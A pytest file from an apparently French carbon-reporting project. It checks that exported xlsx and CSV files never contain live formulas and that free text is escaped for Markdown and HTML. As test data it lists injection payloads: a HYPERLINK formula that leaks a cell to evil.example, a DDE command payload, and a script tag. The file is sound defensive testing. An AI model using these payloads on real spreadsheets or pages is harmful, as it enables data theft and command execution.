"""Hostile text in the outputs: no formula in any xlsx or CSV the project writes, no crash on control characters,
free text escaped for Markdown and HTML, and long lists kept within the page budget.

Attacks come from issue 21 ("Formulas in the outputs", "Late or unclear failures", "A legitimate territory refused").
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from helpers.io import safe_write
from helpers.io.safe_write import FORMULA_PREFIXES, formula_cells

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "=WEBSERVICE(\"http://x\")", "+1+1", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1", "\uff1d1+1"]


def _assert_no_formula_cell(path) -> None:
    """Reopen with openpyxl: no formula cell, and every text starting like a formula is quoted (quotePrefix)."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} unquoted: {cell.value!r}"


def test_the_checker_sees_a_formula_written_the_naive_way(tmp_path):
    """openpyxl alone stores '=…' as a live formula: the check used by every test below does catch it."""
    wb = Workbook()
    wb.active.append(["=1+1"])
    wb.save(tmp_path / "naive.xlsx")
    assert formula_cells(tmp_path / "naive.xlsx") == ["Sheet!A1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_xlsx_text_starting_like_a_formula_stays_text(tmp_path, text):
    df = pd.DataFrame({"line_id": [text, "ok"], "comment": ["x", text], "quantity": [1, 2]})
    path = safe_write.write_xlsx({"inventaire": (df, text)}, tmp_path / "t.xlsx")
    _assert_no_formula_cell(path)
    ws = load_workbook(path)["inventaire"]
    # the value is kept as typed (shown as text), header row 2, data from row 3; XML reads a bare CR back as LF
    typed = text.replace("\r", "\n")
    assert ws["A1"].value == typed and ws["A3"].value == typed and ws["B4"].value == typed


def test_tables_xlsx_writer_quotes_a_label_starting_with_equals(tmp_path):
    """The default study's ``carbon_reconciliation_bridge`` has a label starting with '=' (Excel called the file
    damaged): ``sections.write_tables_xlsx`` writes it as text."""
    from helpers.report.sections import write_tables_xlsx

    bridge = pd.DataFrame({"step": ["inventaire", "= total du bilan"], "tco2e": [10.0, 10.0]})
    path = write_tables_xlsx({"carbon_reconciliation_bridge": (bridge, "note")}, tmp_path / "tables.xlsx")
    assert formula_cells(path) == []
    # French sheet name, header on row 1 (issue 20): the label is the second data row
    assert load_workbook(path)["Réconciliation passage"]["A3"].value == "= total du bilan"


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x0b", "\x1b", "\x1f"])
def test_xlsx_control_characters_never_crash(tmp_path, char):
    """openpyxl raises IllegalCharacterError on C0 controls: they become U+FFFD, in cells, headers and sheet names."""
    df = pd.DataFrame({f"col{char}": [f"a{char}b"]})
    path = safe_write.write_xlsx({f"s{char}": (df, f"note{char}")}, tmp_path / "c.xlsx")
    ws = load_workbook(path).worksheets[0]
    assert ws["A3"].value == "a\ufffdb" and ws["A2"].value == "col\ufffd"


def test_xlsx_is_byte_identical_across_writes(tmp_path):
    df = pd.DataFrame({"a": ["=x", "y"], "b": [1.5, float("nan")]})
    one = safe_write.write_xlsx({"t": (df, "n")}, tmp_path / "1.xlsx").read_bytes()
    two = safe_write.write_xlsx({"t": (df, "n")}, tmp_path / "2.xlsx").read_bytes()
    assert one == two


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=20))
def test_csv_codec_is_reversible_and_never_starts_like_a_formula(text):
    encoded = safe_write.encode_text(text)
    assert safe_write.decode_text(encoded) == text
    assert not encoded.startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cells_are_quoted_and_read_back_exactly(tmp_path, text):
    """A processed table: the CSV on disk has no formula cell, and ``read_csv`` gives back the ids as written (the
    join on ``line_id`` between two tables still matches)."""
    df = pd.DataFrame({"line_id": [text, "'deja-quote", "b"], "kgco2e": [1.5, 2.0, 3.0]})
    path = safe_write.write_csv(df, tmp_path / "t.csv")
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
    back = safe_write.read_csv(path)
    typed = text.replace("\r", "\n")  # a bare CR would be a row break for a spreadsheet: written as LF
    assert back["line_id"].tolist() == [typed, "'deja-quote", "b"]
    assert back.merge(df.assign(line_id=df["line_id"].str.replace("\r", "\n")), on="line_id").shape[0] == 3


def test_context_tables_round_trip_through_the_codec(tmp_path):
    """``Context.write_table`` then ``read_table`` (what notebooks 02–05 do) returns the same values and dtypes, even
    for a text column of negative-looking ids, which pandas would have read as numbers anyway."""
    from helpers.run.context import Context

    ctx = Context(slug="x", territory=None, raw=tmp_path, reference=tmp_path, processed=tmp_path)
    df = pd.DataFrame({"id": ["=a", "-b", "@c"], "n": [1, 2, 3], "neg": ["-1", "-2", "+3"]})
    ctx.write_table("t", df)
    back = ctx.read_table("t")
    assert back["id"].tolist() == ["=a", "-b", "@c"]
    assert back["n"].tolist() == [1, 2, 3]
    assert back["neg"].tolist() == [-1, -2, 3]  # as pd.read_csv of the raw values would give


def test_batch_comparison_csv_quotes_a_hostile_territory_name(tmp_path, monkeypatch):
    from helpers.io import paths
    from helpers.run import batch

    monkeypatch.setattr(paths, "OUTPUTS_DIR", tmp_path)
    monkeypatch.setattr(paths, "PROJECT_ROOT", tmp_path)
    row = batch._row("atk", "summary", "failed", 0.0, error="=1+1", name='=HYPERLINK("http://x","clic")')
    table = pd.DataFrame([row], columns=batch.COLUMNS + ["timings"])
    csv_path, html_path = batch.write_comparison_files(table, 1, 200, "summary")
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig")), delimiter=";"))  # French CSV
    assert len(rows) == 2 and len(rows[1]) == len(rows[0]) > 10
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell
    assert "'=HYPERLINK" in csv_path.read_text(encoding="utf-8-sig")
    assert "'=1+1" in csv_path.read_text(encoding="utf-8-sig")  # the error message too
    page = html_path.read_text(encoding="utf-8")
    assert "<a href=\"http" not in page


# --- free text in the page: Markdown and HTML ----------------------------------------------------------------------

MARKUP_ATTACKS = [
    "**gras**", "__gras__", "_penché_", "`code`", "\\", "a\\*b", "# titre", "## titre", "- item", "+ item", "1. item",
    "3) item", "> citation", "| a | b |", "~~barré~~", "$x^2$", "$$x$$", "\\(x\\)", "http://evil.example/p?q=1",
    "https://x.y/z", "HTTPS://X.Y", "[lien](http://x)", "![img](http://x/i.png)", "<script>alert(1)</script>",
    "<http://x>", "= titre", ": définition", "[ ] tâche", "&#42;", "&amp;", "L'Houmeau", 'Salle "du conseil"',
    "ligne\nnouvelle ligne\n- liste", "tab\there", "    code indenté", "a_b_c", "CCAS #2 *urgent*",
]


def _render(markdown: str) -> str:
    """The Markdown renderer the published page uses (nbconvert's mistune with math, tables, URLs …)."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(markdown).strip()


@pytest.mark.parametrize("raw", MARKUP_ATTACKS)
@pytest.mark.parametrize("context", ["{}", "Nom : {} (fin)", "- {}", "**{}**", "| a |\n|---|\n| {} |"])
def test_free_text_renders_as_typed_in_every_markdown_context(raw, context):
    """No tag, link, emphasis, heading, list, table, math or strikethrough comes from an input, and the reader sees
    the text as typed (line breaks and runs of spaces as one space)."""
    import html
    import re

    from helpers.report.plotting import esc

    page = _render(context.format(esc(raw)))
    expected_page = _render(context.format("XYZ"))
    skeleton = re.sub(r">[^<]*<", "><", page)
    # the same markup as with a harmless word: nothing added by the input
    assert skeleton == re.sub(r">[^<]*<", "><", expected_page), page
    typed = " ".join(raw.split())
    assert typed in html.unescape(re.sub(r"<[^>]+>", "", page)), page
    assert "<a " not in page and "<script" not in page


def test_ids_keep_their_look_and_code_shows_them_as_typed():
    from helpers.report.plotting import code, esc

    assert esc("agent_id-2.b") == "agent_id-2.b"  # nothing to escape inside a word
    assert _render(code("snr-factors-2026.1+sha256:713c")) == "<p><code>snr-factors-2026.1+sha256:713c</code></p>"
    assert _render(code("*x* `y`")) == "<p><code>*x* `y`</code></p>"  # as typed, no emphasis, no nested code


def test_a_dollar_in_a_figure_label_is_text():
    """Matplotlib reads '$…$' as mathtext (an odd '$' raises): setup() turns it off."""
    from helpers.report import plotting

    plt = plotting.setup()
    fig, ax = plt.subplots()
    ax.set_title("Coût $x^2 et 5$ et un $ seul")
    ax.bar(["Service $A", "B$"], [1, 2])
    assert plotting.png_bytes(fig)[:4] == b"\x89PNG"
    plt.close(fig)


def test_a_table_cell_cannot_end_its_html_block():
    """``html_table`` output sits in Markdown cells (method section): a blank line in a cell would end the HTML block
    and let the rest be parsed as Markdown."""
    from helpers.report.plotting import html_table

    df = pd.DataFrame({"Hypothèse": ["valeur\n\n# Titre injecté\n\n*gras*"]})
    page = _render("Texte\n\n" + html_table(df, "Légende"))
    assert "<h1" not in page and "<em>" not in page and "# Titre injecté *gras*" in page


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=8), min_size=1, max_size=6))
def test_frame_codec_round_trips_any_text(values):
    """The vectorised column encoder agrees with the cell rule: no written cell starts like a formula, and decoding
    gives the text back (CR as LF)."""
    df = pd.DataFrame({"t": values})
    encoded = safe_write.encode_frame(df)["t"].tolist()
    assert all(not v.startswith(FORMULA_PREFIXES) for v in encoded)
    assert encoded == [safe_write.csv_text(v) for v in values]
    assert [safe_write.decode_text(v) for v in encoded] == [v.replace("\r\n", "\n").replace("\r", "\n") for v in values]


def test_decoded_columns_keep_the_dtype_pandas_gives_them(tmp_path):
    df = pd.DataFrame({"id": ["=a", "b"], "n": [1, 2]})
    path = safe_write.write_csv(df, tmp_path / "t.csv")
    back, plain = safe_write.read_csv(path), pd.read_csv(path, keep_default_na=False, na_values=[""])
    assert back["id"].dtype == plain["id"].dtype and back["n"].dtype == plain["n"].dtype


def test_assumptions_sheet_shows_input_text_as_typed(tmp_path):
    """The assumptions table reads the processed input tables through the codec: a comment typed '=HYPOTHÈSE …'
    is shown as typed, not with the formula-safe quote of the processed CSV ("'=HYPOTHÈSE …")."""
    import pandas as pd

    from helpers.io.safe_write import write_csv
    from helpers.report import sections

    write_csv(pd.DataFrame({"line_id": ["=A1", "L2"], "comment": ["=HYPOTHÈSE quantité", "mesuré"]}),
              tmp_path / "inventory.csv")
    table = sections.assumed_inputs(tmp_path)
    assert table.iloc[:, 1:].values.tolist() == [["=A1", "=HYPOTHÈSE quantité"]]
